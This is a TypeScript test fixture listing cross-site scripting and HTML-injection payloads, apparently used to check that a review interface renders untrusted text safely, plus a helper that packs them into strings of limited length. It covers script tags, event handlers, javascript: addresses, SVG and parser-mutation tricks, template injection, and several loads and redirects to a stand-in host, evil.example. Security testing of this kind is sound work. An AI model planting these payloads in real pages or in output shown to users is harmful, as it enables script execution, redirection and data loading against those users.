/** What an agent, a tool or a person could write to run something in the browser of a reviewer: `hit` is a trap. */
export const HOSTILE_TEXTS: readonly string[] = [
  // scripts and handlers
  '<script>window.hit=1</script>',
  '<script src="https://evil.example/x.js"></script>',
  '</script><script>hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<img src="https://evil.example/pixel.png">',
  '"><img src=x onerror=hit=1>',
  `'-hit=1-'`,
  '" autofocus onfocus="hit=1" x="',
  '<body onload="hit=1" onpageshow="hit=1">',
  '<input autofocus onfocus="window.hit=1">',
  '<details open ontoggle="hit=1"><summary>x</summary></details>',
  '<video src=x onerror=hit=1></video>',
  '<audio src="https://evil.example/a.mp3" autoplay onloadstart=hit=1></audio>',
  '<marquee onstart=hit=1>x</marquee>',
  '<select autofocus onfocus=hit=1><option>x</select>',
  // svg and math
  '<svg onload="window.hit=1"></svg>',
  '<svg><script href="data:text/javascript,hit=1" /></svg>',
  '<svg><animate onbegin=hit=1 attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:hit=1"><text y="20">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit=1></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.hit=1"></iframe></foreignObject></svg>',
  // addresses
  'javascript:window.hit=1',
  '<a href="javascript:window.hit=1">click</a>',
  '<a href="java\tscript:hit=1">click</a>',
  '<a href="data:text/html,<script>opener.hit=1</script>">click</a>',
  'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  '[click](javascript:hit=1) ![x](https://evil.example/pixel.png)',
  '<object data="https://evil.example/"></object>',
  '<embed src="https://evil.example/x.svg">',
  // frames, forms and the head of a document
  '"><iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example"><input name=q autofocus onfocus="window.hit=1"></form>',
  '<button form=x formaction="javascript:hit=1">click</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/">',
  // styles
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">x</p>',
  '</style></title></textarea></xmp></noscript><img src=x onerror=hit=1>',
  // templates
  '{{constructor.constructor("hit=1")()}}',
  '${hit=1} #{hit=1} <%= hit=1 %> {hit=1}',
  // mutation: what a parser makes of it the second time
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit=1">',
  '<svg></p><style><a id="</style><img src=1 onerror=hit=1>">',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<!--><img src=x onerror=hit=1>--><![CDATA[<img src=x onerror=hit=1>]]>',
  '&lt;img src=x onerror=hit=1&gt; &#60;img src=x onerror=hit=1&#62;',
  // names that every object has, and names of elements that shadow those of the page
  '__proto__',
  '<form id="document" name="location"><input name="getElementById"></form>',
];

/** All of them, in texts of at most `charsMax`; one that is longer is in none. */
export function packs(charsMax: number): string[] {
  const filled: string[] = [];
  for (const text of HOSTILE_TEXTS.filter(({ length }) => length <= charsMax)) {
    const last = filled.at(-1);
    const longer = `${last} ${text}`;
    if (last !== undefined && longer.length <= charsMax) filled[filled.length - 1] = longer;
    else filled.push(text);
  }
  return filled;
}
